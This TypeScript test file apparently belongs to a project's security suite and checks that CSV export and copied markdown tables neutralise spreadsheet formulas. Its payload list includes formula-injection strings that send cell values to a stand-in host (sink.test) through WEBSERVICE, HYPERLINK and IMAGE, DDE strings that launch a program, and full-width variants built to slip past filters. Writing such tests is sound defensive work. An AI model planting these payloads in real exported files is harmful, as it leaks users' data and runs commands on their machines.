import { markdownHtml } from '../../../lib/documents/index.ts';
import { csvCell } from '../../../lib/text/index.ts';
import { type Attempt, type Family, HARMLESS, unless } from './family.ts';

const FORMULAS = [
  '=WEBSERVICE("https://sink.test/?d="&A1)',
  '=HYPERLINK("https://sink.test/?"&B2,"x")',
  '=IMPORTXML(A1,"//a")',
  '=1+1',
  '=A1',
  '=-A1',
  '==A1',
  '＝WEBSERVICE(B2)',
  '+WEBSERVICE(B2)',
  '-WEBSERVICE(B2)',
  '@SUM(A1:A9)',
  '@WEBSERVICE (B2)',
  '＋WEBSERVICE(B2)',
  '－WEBSERVICE（B2）',
  '＠SUM（A1）',
  "+cmd|' /C calc'!A0",
  "-cmd|'/C calc'!A0",
  "@cmd|'x'!A1",
  "=cmd|'/C calc'!A0",
  '+Sheet2!A1',
  '-2+3+IMAGE("https://sink.test/")',
  '+1-ΣΥΝΟΛΟ(A1)',
];
const BEFORE = ['', 'x;', 'x\t', 'x\n', 'x\r\n', '";', 'a;b;', "'x';", '"a"\t', ',x;', 'x;"'];
const GAPS = ['', ' ', '   ', '\u00a0', '\u3000'];
const SEPARATORS = { comma: ',', semicolon: ';', tab: '\t' };

/**
 * The cells of one row as read by a program that separates with `separator`. Quotes count at the beginning of a cell
 * (RFC 4180).
 */
function cells(text: string, separator: string): string[] {
  const found: string[] = [];
  let cell = '';
  let isQuoted = false;
  for (let at = 0; at < text.length; at++) {
    const sign = text[at] ?? '';
    if (isQuoted && sign === '"' && text[at + 1] === '"') {
      cell += sign;
      at++;
    } else if (sign === '"' && (isQuoted || cell === '')) isQuoted = !isQuoted;
    else if (!isQuoted && (sign === separator || sign === '\n' || sign === '\r')) {
      found.push(cell);
      cell = '';
    } else cell += sign;
  }
  return [...found, cell];
}

/** Whether a program would interpret this cell as a formula that calls or references something. */
function isFormula(cell: string): boolean {
  const text = cell.trim();
  return /^[=＝]/.test(text) || /^[+\-@＋－＠].*(?:\p{L}\s*[(（]|[|!])/u.test(text);
}

/** How an answer shows a formula in a table that is copied. */
const SHOWN: Record<string, (formula: string) => string> = {
  plain: (formula) => formula,
  code: (formula) => `\`${formula}\``,
  strong: (formula) => `**${formula}**`,
  'behind spaces': (formula) => `   ${formula}`,
};

const pasted = FORMULAS.flatMap((formula) =>
  Object.entries(SHOWN).map(([name, show]): Attempt => {
    const table = `| Name | Sum |\n|---|---|\n| a | ${show(formula.replaceAll('|', '\\|'))} |`;
    return {
      name: `copied as ${name}: ${formula}`,
      run: () => {
        const cell = [...markdownHtml(table).matchAll(/<td([^>]*)>/g)].at(-1)?.[1] ?? '';
        return unless(/mso-number-format:'\\@'.*data-sheets-value=/.test(cell), `a cell with${cell}`);
      },
    };
  }),
);

export const SPREADSHEETS: Family = {
  name: 'formulas in tables that are saved',
  controls: [
    'a formula in a table does not run in a spreadsheet',
    'a formula in a table that is copied does not run in a spreadsheet',
  ],
  minSent: 0.9,
  attempts: () => [
    ...pasted,
    ...FORMULAS.flatMap((formula) =>
      BEFORE.flatMap((before) =>
        GAPS.map((gap): Attempt => {
          const text = `${before}${gap}${formula}`;
          return {
            name: JSON.stringify(text),
            run: () => {
              const row = `${csvCell('Name')},${csvCell(text)},${csvCell('1')}`;
              const runs = Object.entries(SEPARATORS).flatMap(([name, separator]) =>
                cells(row, separator)
                  .filter(isFormula)
                  .map((cell) => `${name}: ${cell}`),
              );
              return runs.length === 0 ? HARMLESS : { leak: runs.join(' | '), hasSent: true };
            },
          };
        }),
      ),
    ),
  ],
};
